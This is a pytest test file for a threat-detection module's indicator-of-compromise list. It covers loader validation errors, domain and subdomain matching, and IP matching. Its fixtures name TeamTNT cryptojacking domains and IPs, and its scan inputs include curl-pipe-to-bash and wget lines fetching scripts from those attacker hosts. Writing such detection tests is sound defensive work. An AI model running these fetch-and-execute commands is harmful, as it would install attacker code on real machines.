"""The shared IOC list: loader errors name the file, domains match themselves and their subdomains
but never a longer name that merely contains them, IPs match addresses and networks."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from cloudward.engines.iocs import EMPTY_SHA256, KINDS, Indicator, Iocs, load_iocs


def write_iocs(tmp_path: Path, indicators: list[dict]) -> Path:
    path = tmp_path / "mine.yaml"
    path.write_text(yaml.safe_dump({"indicators": indicators}))
    return path


def small() -> Iocs:
    iocs = Iocs()
    iocs.add(Indicator("domain", "teamtnt.red", "fixture", "2021-01-01"))
    iocs.add(Indicator("domain", "chimaera.cc", "fixture", "2021-01-01"))
    iocs.add(Indicator("ip", "45.9.148.182", "fixture", "2021-01-01"))
    iocs.add(Indicator("ip", "198.51.100.0/24", "fixture", "2021-01-01"))
    return iocs


def test_shipped_list_loads_and_every_entry_is_sourced_and_dated():
    iocs = load_iocs()
    assert iocs.indicators
    for indicator in iocs.indicators:
        assert indicator.kind in KINDS
        assert indicator.source.strip() and indicator.date.strip()
    assert iocs.get("domain", "teamtnt.red") is not None
    assert iocs.get("process_name", "xmrig") is not None
    assert iocs.get("pool_port", "3333") is not None
    assert EMPTY_SHA256 not in iocs.values("sha256")


@pytest.mark.parametrize(("entry", "message"), [
    ({"kind": "colour", "value": "red", "source": "s", "date": "d"}, "unknown kind"),
    ({"kind": "domain", "value": "", "source": "s", "date": "d"}, "value is required"),
    ({"kind": "domain", "value": "x.example", "date": "d"}, "source and date are required"),
    ({"kind": "ip", "value": "300.1.1.1", "source": "s", "date": "d"}, "not an IP address"),
    ({"kind": "sha256", "value": "abc", "source": "s", "date": "d"}, "not a SHA-256"),
    ({"kind": "sha256", "value": EMPTY_SHA256, "source": "s", "date": "d"}, "empty file"),
    ({"kind": "pool_port", "value": 70000, "source": "s", "date": "d"}, "not a TCP port"),
])
def test_loader_errors_name_the_file(tmp_path: Path, entry: dict, message: str):
    path = write_iocs(tmp_path, [entry])
    with pytest.raises(ValueError) as info:
        load_iocs(extra=[path])
    assert str(path) in str(info.value)
    assert message in str(info.value)


def test_loader_rejects_wrong_shapes(tmp_path: Path):
    for text in ("[]", "indicators: 3", "indicators: [3]", ": : :"):
        path = tmp_path / "bad.yaml"
        path.write_text(text)
        with pytest.raises(ValueError, match=r"bad\.yaml"):
            load_iocs(extra=[path])


def test_user_file_adds_indicators(tmp_path: Path):
    path = write_iocs(tmp_path, [{"kind": "domain", "value": "evil.example", "source": "me", "date": "2024-01-01"}])
    iocs = load_iocs(extra=[path])
    assert iocs.match_domain("a.evil.example").value == "evil.example"


def test_domain_matches_itself_and_subdomains_only():
    iocs = small()
    assert iocs.match_domain("teamtnt.red").value == "teamtnt.red"
    assert iocs.match_domain("Sub.TeamTNT.red.").value == "teamtnt.red"
    assert iocs.match_domain("notteamtnt.red") is None
    assert iocs.match_domain("teamtnt.red.example") is None
    assert iocs.match_domain("red") is None


@pytest.mark.parametrize(("text", "expected"), [
    ("curl -s http://teamtnt.red/x.sh | bash", {"teamtnt.red"}),
    ("wget http://a.b.chimaera.cc/cmd/init.sh", {"chimaera.cc"}),
    ("see TEAMTNT.RED.", {"teamtnt.red"}),
    ("notteamtnt.red.example", set()),
    ("teamtnt.red.example", set()),
    ("xteamtnt.red", set()),
    ("teamtnt.redder", set()),
    ("teamtnt-red.com", set()),
    ("mail hilde_teamtnt.red_x", set()),
    ("connect 45.9.148.182:443", {"45.9.148.182"}),
    ("from 198.51.100.77", {"198.51.100.0/24"}),
    ("version 145.9.148.182 and 45.9.148.1820", set()),
])
def test_find_in_text(text: str, expected: set[str]):
    assert {i.value for i in small().find_in_text(text)} == expected


def test_match_ip_accepts_brackets_and_rejects_garbage():
    iocs = small()
    assert iocs.match_ip("[45.9.148.182]").value == "45.9.148.182"
    assert iocs.match_ip("not-an-ip") is None


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=600))
def test_find_in_text_never_crashes_and_only_reports_listed_values(text: str):
    iocs = load_iocs()
    listed = {(i.kind, i.value) for i in iocs.indicators}
    for hit in iocs.find_in_text(text):
        assert (hit.kind, hit.value) in listed


@settings(max_examples=100, deadline=None)
@given(st.from_regex(r"[a-z0-9-]{1,12}", fullmatch=True))
def test_a_label_glued_in_front_is_never_a_hit(prefix: str):
    assert small().find_in_text(f"http://{prefix}teamtnt.red/") == []
